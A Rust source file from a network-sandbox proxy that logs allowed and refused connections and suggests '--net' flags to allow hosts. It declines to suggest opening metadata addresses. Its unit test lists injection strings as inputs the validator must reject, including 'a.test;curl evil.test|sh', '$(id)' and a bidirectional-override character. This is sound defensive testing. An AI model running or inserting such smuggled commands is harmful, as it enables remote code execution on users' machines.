//! What was connected and what was refused, in words and in the report.

use endow_policy::{HostRule, Protocol};
use serde_json::{Value, json};

use crate::cli::output::Output;
use crate::network::{Decision, Entry, Log, Special};

/// The most refused hosts that are named at the end.
const NAMED_MAX: usize = 5;

/// Returns one line for a connection or a refusal.
pub(crate) fn line(entry: &Entry) -> String {
    let process = entry.process.as_ref().map(|it| format!(" for {} ({})", it.name, it.pid));
    let place = place(entry) + &process.unwrap_or_default();
    match entry.decision {
        Decision::Connected(error) => {
            let end = error.map(|errno| format!(", then {errno}")).unwrap_or_default();
            let (sent, received) = (entry.sent, entry.received);
            let rule = entry.rule.as_ref().map(|(rule, _)| format!(" by `{rule}`"));
            let rule = rule.unwrap_or_default();
            format!("connected to {place}{rule}: {sent} bytes sent, {received} received{end}")
        }
        _ => format!("refused {place}: {}", why(entry)),
    }
}

/// Returns the object of the report.
pub(crate) fn value(entry: &Entry) -> Value {
    let (rule, origin) = entry.rule.clone().unzip();
    let connected = matches!(entry.decision, Decision::Connected(_));
    let reason = match entry.decision {
        Decision::Connected(error) => error.map(|errno| errno.to_string()),
        _ => Some(why(entry)),
    };
    json!({
        "host": entry.host,
        "port": entry.port,
        "protocol": entry.protocol,
        "address": entry.address.map(|address| address.to_string()),
        "decision": if connected { "connected" } else { "refused" },
        "reason": reason,
        "rule": rule,
        "origin": origin,
        "sent": entry.sent,
        "received": entry.received,
        "duration_ms": u64::try_from(entry.duration.as_millis()).unwrap_or(u64::MAX),
        "process": entry.process.as_ref().map(|it| json!({ "pid": it.pid, "name": it.name })),
    })
}

/// Returns what the report says; nothing where no network was served.
pub(crate) fn list(log: Option<&Log>) -> Value {
    let list = |log: &Log| log.entries().iter().map(value).collect::<Vec<Value>>();
    log.map_or(Value::Null, |log| json!({"list": list(log), "truncated": log.left_out() > 0}))
}

/// Says at the end which hosts were refused, and what would allow them.
pub(crate) fn tell(log: &Log, is_asked_for: bool, output: &Output) {
    let mut words: Vec<String> = Vec::new();
    for word in log.entries().iter().filter_map(remedy) {
        if !words.contains(&word) {
            words.push(word);
        }
    }
    if words.is_empty() {
        return;
    }
    let more = words.len().saturating_sub(NAMED_MAX);
    let more = if more == 0 { String::new() } else { format!(" (and {more} more)") };
    let named = words.get(..NAMED_MAX.min(words.len())).unwrap_or_default().join(" ");
    let line = format!("hosts that no rule allows were asked for; to allow them: {named}{more}");
    output.finding(&line, is_asked_for);
}

/// Returns the flag that would allow it, where one would.
pub(crate) fn remedy(entry: &Entry) -> Option<String> {
    match entry.decision {
        Decision::NotAllowed => {
            let word = Some(word(entry)).filter(|word| is_rule(word));
            word.map(|word| format!("--net {word}"))
        }
        Decision::Special(special) => lift(entry.protocol, special),
        _ => None,
    }
}

/// Returns the flag that opens a special address. A metadata service gives credentials away, and the
/// loopback is another matter: neither is proposed.
fn lift(protocol: Protocol, Special { at, range }: Special) -> Option<String> {
    let udp = if protocol == Protocol::Udp { "udp:" } else { "" };
    let word = format!("{udp}{at}");
    let may_be = HostRule::parse(&word).is_ok() && !range.is_metadata();
    may_be.then(|| format!("--net {word}"))
}

/// Tells whether a word is one that can be given. A client of the proxy chooses the name, and what is
/// proposed is copied into a shell.
fn is_rule(word: &str) -> bool {
    let is_plain = |it: u8| it.is_ascii_alphanumeric() || b".-_:[]".contains(&it);
    !word.starts_with('-') && word.bytes().all(is_plain) && HostRule::parse(word).is_ok()
}

/// The word of `--net` that would allow it.
fn word(entry: &Entry) -> String {
    match entry.port {
        Some(port) => format!("{}:{port}", entry.host),
        None => entry.host.clone(),
    }
}

/// Returns where it was to lead, in words.
pub(crate) fn place(entry: &Entry) -> String {
    entry.port.map_or_else(|| entry.host.clone(), |port| format!("{}:{port}", entry.host))
}

fn why(entry: &Entry) -> String {
    match entry.decision {
        Decision::Connected(_) => String::new(),
        Decision::NotAllowed => "no rule allows it".to_owned(),
        Decision::Special(special) => {
            let Special { at, range } = special;
            let lift = lift(entry.protocol, special).map(|flag| format!(" (`{flag}`)"));
            let lift = lift.unwrap_or_default();
            format!("it leads to {}, which needs a rule of its own{lift}: {range}", at.ip())
        }
        Decision::NotOfSecret(Special { at, range }) => {
            format!("it leads to {}, which the secret must name as `address`: {range}", at.ip())
        }
        Decision::OtherServer => "another server was asked for in the connection".to_owned(),
        Decision::Unreachable(errno) => format!("it can't be reached: {errno}"),
        Decision::Unresolved => "its name can't be resolved".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::is_rule;

    #[test]
    fn nothing_is_proposed_that_a_shell_would_run() {
        for name in ["a.test", "xn--bcher-kva.test:443", "192.0.2.1", "[2001:db8::1]:80"] {
            assert!(is_rule(name), "{name}");
        }
        for name in
            ["a.test;curl evil.test|sh", "$(id)", "a b", "`id`", "a'b", "--rw", "", "a\u{202e}b"]
        {
            assert!(!is_rule(name), "{name}");
        }
        for unreadable in ["a.test..:80", "a..test", ".:80", "a.test:", "a.test:0"] {
            assert!(!is_rule(unreadable), "{unreadable}");
        }
    }
}
